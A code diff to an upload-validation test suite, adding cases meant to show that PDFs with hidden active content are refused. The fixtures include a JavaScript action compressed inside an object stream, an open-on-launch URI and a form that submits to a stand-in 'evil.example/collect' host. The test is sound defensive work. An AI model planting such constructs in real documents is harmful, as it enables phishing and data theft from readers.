@@ -3,6 +3,8 @@
  * with nothing written; a file that is not a PDF, too large or with active content is a 400 with nothing written; a
  * stale version is a 409; a document published in the future stays hidden from the public until its time.
  */
+
+import { deflateSync } from 'node:zlib'
 import type { AdminDocument, AdminDocuments, AuditEntry, DocumentDto } from '@podium/domain'
 import { sql } from 'drizzle-orm'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
@@ -195,6 +197,23 @@ describe('documents in the back office', () => {
     expect((await errorOf(active)).fields?.file).toEqual([
       'The PDF contains active content (scripts, launch actions or embedded files)',
     ])
+
+    // Issue 37: a script inside a compressed object stream, a URI opened on opening, a form that submits.
+    const objects = deflateSync(new TextEncoder().encode('<< /S /JavaScript /JS (app.alert(1)) >>'))
+    const head = new TextEncoder().encode(
+      `%PDF-1.7\n5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${objects.length} >>\nstream\n`,
+    )
+    const tail = new TextEncoder().encode('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
+    const packed = new Uint8Array([...head, ...objects, ...tail])
+    for (const file of [
+      packed,
+      pdf('1 0 obj << /Type /Catalog /OpenAction << /S /URI /URI (https://evil.example) >> >> endobj'),
+      pdf('1 0 obj << /S /SubmitForm /F (https://evil.example/collect) >> endobj'),
+    ]) {
+      const refused = await t.request('/api/v1/admin/documents', upload(notice, file, staff))
+      expect(refused.status).toBe(400)
+      expect((await errorOf(refused)).fields?.file).toHaveLength(1)
+    }
 
     const noFile = await t.request('/api/v1/admin/documents', upload(notice, null, staff))
     expect((await errorOf(noFile)).fields).toEqual({ file: ['Choose a PDF file'] })
